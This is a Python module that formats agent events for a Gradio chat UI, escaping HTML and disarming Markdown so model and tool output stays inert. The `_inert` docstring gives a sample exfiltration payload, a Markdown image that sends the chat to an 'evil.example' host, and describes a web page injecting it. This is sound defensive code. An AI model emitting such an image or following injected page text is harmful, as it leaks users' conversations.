"""Agent events -> chat messages for the Gradio `Chatbot`, as plain dicts (no gradio import, easy to test).

Model text and tool results are data from outside: everything shown is made inert here. HTML is escaped outside
Markdown code, Markdown images are defused (they would load by themselves), and tool results go in a fenced code
block whose fence is longer than any backtick run inside it, so a result can neither close the fence nor inject
markup.
"""

from __future__ import annotations

import html
import json
import re
from typing import Any

from agent.events import AgentError, Notice, ToolCallFinished, ToolCallStarted, TurnStats

_FENCE_LINE = re.compile(r"^\s{0,3}(`{3,}|~{3,})")
_INLINE_CODE = re.compile(r"(`+)(.+?)\1", re.DOTALL)


def escape_text(text: str) -> str:
    """Escape `&`, `<` and `>` everywhere (for titles and other one-line labels)."""
    return html.escape(text or "", quote=False)


def inert_markdown(text: str) -> str:
    """Markdown from a model with any HTML made literal; code blocks and inline code are left as written.

    Markdown renders code verbatim (never as HTML), so escaping there would show `&lt;` to the user instead of `<`.
    """
    out, fence = [], None
    for line in (text or "").splitlines(keepends=True):
        match = _FENCE_LINE.match(line)
        if fence is None:
            if match:
                fence = match.group(1)
                out.append(line)
            else:
                out.append(_escape_outside_inline_code(line))
        else:
            out.append(line)
            if match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence) \
                    and not line.strip().lstrip(fence[0]):
                fence = None
    return "".join(out)


def _escape_outside_inline_code(line: str) -> str:
    parts, last = [], 0
    for match in _INLINE_CODE.finditer(line):
        parts.append(_inert(line[last:match.start()]))
        parts.append(match.group(0))
        last = match.end()
    parts.append(_inert(line[last:]))
    return "".join(parts)


def _inert(text: str) -> str:
    """HTML escaped, and no Markdown image: an image loads by itself, so a model talked into writing
    `![](https://evil.example/?q=<the chat>)` by a web page would send the conversation away. `!\\[` shows as written.
    """
    return escape_text(text).replace("![", "!\\[")


def code_block(text: str, language: str = "") -> str:
    """`text` in a fenced block that nothing inside it can close."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"


def format_result(result: Any) -> str:
    """A tool result as pretty JSON in an inert code block."""
    try:
        body = json.dumps(result, indent=2, ensure_ascii=False, default=str)
    except (TypeError, ValueError):
        body = repr(result)
    return code_block(body, "json")


# ----------------------------------------------------------------------------------------------- chat messages

def user_message(text: str) -> dict[str, Any]:
    return {"role": "user", "content": inert_markdown(text)}


def assistant_message(text: str) -> dict[str, Any]:
    return {"role": "assistant", "content": inert_markdown(text)}


def inline_code(text: str) -> str:
    """`text` as a Markdown code span that nothing inside it can close (rendered verbatim, so never as HTML)."""
    text = " ".join((text or "").split())
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


MAX_TITLE_CHARS = 200


def tool_call_title(call) -> str:
    """The call as the model wrote it, in code style: `get_current_weather(location="Oslo")` (a 10k-character
    argument is cut: the whole call is in the model's reply, the title only has to say which tool ran)."""
    text = call.to_python()
    if len(text) > MAX_TITLE_CHARS:
        text = text[:MAX_TITLE_CHARS] + "…"
    return "🔧 " + inline_code(text)


def tool_pending_message(event: ToolCallStarted, turn_id: str) -> dict[str, Any]:
    """The collapsible message shown while a tool runs (a spinner; the accordion starts open)."""
    return {
        "role": "assistant",
        "content": "Running…",
        "metadata": {"title": tool_call_title(event.call), "status": "pending", "id": f"{turn_id}-tool-{event.index}"},
    }


def tool_done_message(event: ToolCallFinished, turn_id: str) -> dict[str, Any]:
    """The same message once the tool returned: status done, its duration, the result inside. A failed or refused
    call says so in its title (❌ and one line of why), so the error is visible without opening it."""
    title = tool_call_title(event.call)
    if not event.ok:  # bold and italics in a title only ever mean this: the app's CSS paints them red
        what = "failed" if event.duration_s > 0 else "not run"  # the agent refuses a call without running it
        title += f" · ❌ **{what}**: _" + _markdown_literal(error_line(event.result)) + "_"
    metadata = {"title": title, "status": "done", "duration": round(event.duration_s, 3),
                "id": f"{turn_id}-tool-{event.index}"}
    if not event.ok:
        metadata["log"] = "error"
    return {"role": "assistant", "content": format_result(event.result), "metadata": metadata}


_MARKDOWN_SPECIALS = re.compile(r"([\\`*_~\[\]<>#|!])")


def _markdown_literal(text: str) -> str:
    """Text from outside as literal Markdown: every character that could format or mark up is backslash-escaped
    (`<` and `>` too, so no HTML)."""
    return _MARKDOWN_SPECIALS.sub(r"\\\1", text)


def error_line(result: Any, limit: int = 140) -> str:
    """One line of why a tool call failed, from its `{"error": ...}` result."""
    reason = result.get("error") if isinstance(result, dict) else None
    text = " ".join(str(reason or "failed").split())
    return text if len(text) <= limit else text[:limit] + "…"


def notice_message(event: Notice) -> dict[str, Any]:
    return {"role": "assistant", "content": "ℹ️ _" + escape_text(event.text) + "_"}


def error_message(event: AgentError | str) -> dict[str, Any]:
    text = event.message if isinstance(event, AgentError) else event
    return {"role": "assistant", "content": "⚠️ " + escape_text(text)}


def no_live_data_message() -> dict[str, Any]:
    return {"role": "assistant", "content": "🚫 **No live data**: the model answered without a successful tool call, "
                                            "so any weather or facts above are its own guesses."}


def truncated_message(max_tokens: int) -> dict[str, Any]:
    return {"role": "assistant", "content": f"✂️ **Cut off** at the limit of {max_tokens} new tokens per LLM call "
                                            "(Settings → Max new tokens)."}


def switch_message(label: str) -> dict[str, Any]:
    return {"role": "assistant", "content": f"🔀 **Switched to {escape_text(label)}.** It starts a fresh context: "
                                            "the messages above stay here but are not sent to it."}


def queued_message(text: str) -> dict[str, Any]:
    """A message typed while an answer streams: shown at once, answered after the current turn."""
    return {"role": "user", "content": inert_markdown(text) + "\n\n_⏳ queued: answered after the current reply_"}


def percent(probability: float) -> str:
    value = 100 * probability
    return "<1%" if 0 < value < 1 else (">99%" if 99 < value < 100 else f"{value:.0f}%")


def tool_counts(stats: TurnStats) -> str:
    """The tool calls shown in the chat (run + refused), with the failed and refused ones apart: "3 tool calls (1
    failed, 1 refused)". Empty when there were none."""
    shown = stats.tool_calls + stats.tool_calls_refused
    if not shown:
        return ""
    apart = [f"{n} {what}" for n, what in ((stats.tool_calls_failed, "failed"), (stats.tool_calls_refused, "refused"))
             if n]
    return f"{shown} tool call{'s' if shown != 1 else ''}" + (f" ({', '.join(apart)})" if apart else "")


def _seconds(value: float | None) -> str:
    return "–" if value is None else f"{value:.2f} s"


def stats_line(stats: TurnStats, model_label: str = "", first_visible_s: float | None = None,
               call_probability: float | None = None) -> str:
    """One muted line of per-turn numbers, shown under the answer: which model wrote it and what it cost."""
    first = stats.time_to_first_token_s if first_visible_s is None else first_visible_s
    parts = [escape_text(model_label)] if model_label else []
    parts.append(f"{stats.llm_calls} LLM call{'s' if stats.llm_calls != 1 else ''}")
    if tool_counts(stats):
        parts.append(tool_counts(stats))
    if call_probability is not None:
        parts.append(f"calls a tool: {percent(call_probability)}")
    parts += [f"prompt {stats.prompt_tokens} tok ({stats.evaluated_tokens} evaluated, {stats.cached_tokens} reused "
              f"from cache)", f"{stats.completion_tokens} generated", f"first token {_seconds(first)}",
              f"total {stats.total_s:.2f} s"]
    return " · ".join(parts)


def stats_message(stats: TurnStats, model_label: str = "", first_visible_s: float | None = None,
                  call_probability: float | None = None) -> dict[str, Any]:
    """A small collapsed block under the answer: the numbers in the title, the breakdown inside."""
    rows = [
        ("model", escape_text(model_label) or "–"),
        ("LLM calls", stats.llm_calls),
        ("tool calls run", stats.tool_calls),
        ("… failed (the tool returned an error)", stats.tool_calls_failed),
        ("tool calls refused (not run)", stats.tool_calls_refused),
        ("P(opens with a tool call), first token", "–" if call_probability is None else percent(call_probability)),
        ("prompt tokens", stats.prompt_tokens),
        ("… evaluated", stats.evaluated_tokens),
        ("… reused from cache", stats.cached_tokens),
        ("generated tokens", stats.completion_tokens),
        ("time to first visible token", _seconds(stats.time_to_first_token_s if first_visible_s is None
                                                  else first_visible_s)),
        ("prompt eval", f"{stats.prompt_eval_s:.2f} s"),
        ("decode", f"{stats.decode_s:.2f} s"),
        ("total", f"{stats.total_s:.2f} s"),
    ]
    table = "| measure | this turn |\n|---|---|\n" + "\n".join(f"| {k} | {v} |" for k, v in rows)
    title = "📊 " + stats_line(stats, model_label, first_visible_s, call_probability)
    return {"role": "assistant", "content": table, "metadata": {"title": title, "status": "done"}}


def message_text(message: dict[str, Any]) -> str:
    """The text of a display message, whether we built it or Gradio normalised it into content parts."""
    content = message.get("content")
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return "".join(part.get("text", "") for part in content if isinstance(part, dict))
    return ""
